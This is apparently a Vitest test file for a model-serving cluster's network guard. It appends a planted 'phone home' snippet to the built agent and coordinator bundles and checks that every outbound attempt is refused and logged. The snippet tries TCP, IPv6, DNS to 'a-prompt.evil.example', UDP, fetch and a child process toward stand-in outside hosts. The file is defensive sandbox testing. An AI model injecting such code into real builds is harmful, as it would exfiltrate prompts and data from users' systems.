// A dependency that phones home: every trusted process of a cluster carries one, which reads the prompt's markers from
// memory it shares with everything else and tries each way out that code in Node has. Nothing of it arrives; each try is
// a record; the cluster answers as ever.
import {
  appendFileSync,
  copyFileSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createSocket } from 'node:dgram';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Violation } from '@minikeep/protocol/v1';
import { onlyOn, randomModelFile } from '@minikeep/testkit';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { startLocalCluster, type LocalCluster } from '../src/local-cluster.ts';
import { Cache, ask, deploy, DIST, tokens } from './cluster-helpers.ts';

/** Who sits at home: nothing may ever call here. */
const home = createServer((socket) => {
  calls.push('TCP');
  socket.destroy();
});
const datagrams = createSocket('udp4').on('message', () => calls.push('UDP'));
const calls: string[] = [];
const cache = new Cache();
const programs = mkdtempSync(path.join(tmpdir(), 'minikeep-planted-'));
/** It bides its time. */
const go = path.join(programs, 'go');
const answered = path.join(programs, 'answers.ndjson');
let cluster: LocalCluster | undefined;

/** What was planted. It tells the outcome by a file, which is no way out of the machine. */
const planted = (port: number, udpPort: number): string => `
;{
  const [net, dns, dgram, { appendFileSync, existsSync }, { execFile }] = await Promise.all(
    ['net', 'dns', 'dgram', 'fs', 'child_process'].map((name) => import('node:' + name)),
  );
  const said = (how, what) =>
    appendFileSync(${JSON.stringify(answered)}, JSON.stringify({ process: process.argv[1].split('/').at(-1), how, what }) + '\\n');
  const call = (how, options) => {
    const socket = net.connect(options, () => { said(how, 'connected'); socket.destroy(); });
    socket.on('error', ({ code }) => said(how, code));
  };
  const waiting = setInterval(() => {
    if (!existsSync(${JSON.stringify(go)})) return;
    clearInterval(waiting);
    call('loopback', { host: '127.0.0.1', port: ${port} });
    call('outside', { host: '203.0.113.7', port: 443 });
    call('outside6', { host: '2001:db8::7', port: 443 });
    dns.lookup('a-prompt.evil.example', (error) => said('name', error?.code ?? 'resolved'));
    const udp = dgram.createSocket('udp4');
    udp.send('a prompt', ${udpPort}, '127.0.0.1', (error) => { said('datagram', error?.code ?? 'sent'); udp.close(); });
    fetch('http://127.0.0.1:${port}/?a-prompt').then(() => said('fetch', 'answered'), (error) => said('fetch', error.cause?.code));
    execFile(process.execPath, ['-e', "require('net').connect(${port}, '127.0.0.1').on('connect', () => console.log('connected')).on('error', ({ code }) => console.log(code))"], { env: {} },
      (error, stdout) => said('child', stdout.trim()));
  }, 50);
}
`;

const WAYS = ['loopback', 'outside', 'outside6', 'name', 'datagram', 'fetch', 'child'];

beforeEach((ctx) => onlyOn(ctx, 'linux'));
beforeAll(async () => {
  await new Promise<void>((resolve) => home.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => datagrams.bind(0, '127.0.0.1', resolve));
  const { port } = home.address() as AddressInfo;
  for (const name of readdirSync(DIST))
    if (!/^(agent|coordinator)\.mjs$/.test(name))
      symlinkSync(path.join(DIST, name), path.join(programs, name));
  for (const name of ['agent.mjs', 'coordinator.mjs']) {
    copyFileSync(path.join(DIST, name), path.join(programs, name));
    appendFileSync(path.join(programs, name), planted(port, datagrams.address().port));
  }
  cluster = await startLocalCluster({ nodes: 2, distFolder: programs, cacheFolder: cache.folder });
});
afterAll(async () => {
  await cluster?.stop();
  home.close();
  datagrams.close();
  cache.remove();
  rmSync(programs, { recursive: true, force: true });
});

async function violations(running: LocalCluster): Promise<Violation[]> {
  const found: Violation[] = [];
  for await (const { violation } of running.operator.violations({ follow: false }))
    if (violation !== undefined) found.push(violation);
  return found;
}

it('is refused and recorded in every trusted process, and the cluster answers', async () => {
  if (cluster === undefined) throw new Error('not started');
  const running = cluster;
  await deploy(running, await randomModelFile('llama', { layers: 4 }), { noText: true });
  const { ids } = await ask(running, tokens([5, 9, 14]), { maxTokens: 4 });
  expect(ids).toHaveLength(4);

  writeFileSync(go, '');
  const tried = 3 * WAYS.length;
  const lines = (): { process: string; how: string; what: string }[] =>
    readFileSync(answered, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { process: string; how: string; what: string });
  await expect.poll(() => lines().length, { timeout: 15_000 }).toBe(tried);
  const outcome = Object.fromEntries(lines().map(({ how, what }) => [how, what]));
  expect(outcome).toEqual({
    loopback: 'EPERM',
    outside: 'EPERM',
    outside6: 'EPERM',
    name: expect.stringMatching(/^(EAI_AGAIN|ENOTFOUND|EAI_FAIL)$/) as string,
    datagram: 'EPERM',
    fetch: 'EPERM',
    child: 'EPERM',
  });
  expect(calls).toEqual([]);

  const { port } = home.address() as AddressInfo;
  const targets = [`inet 127.0.0.1:${port}`, 'inet 203.0.113.7:443', 'inet6 [2001:db8::7]:443'];
  await expect
    .poll(
      async () => {
        const seen = await violations(running);
        return targets.flatMap((target) =>
          seen
            .filter((one) => one.target === target && one.refusedBy === 'guard')
            .map((one) => `${one.purpose} ${one.node} ${target}`),
        );
      },
      { timeout: 10_000 },
    )
    .toEqual(
      expect.arrayContaining(
        targets.flatMap((target) => [
          `coordinator coordinator ${target}`,
          `agent node-1 ${target}`,
          `agent node-2 ${target}`,
        ]),
      ),
    );
});
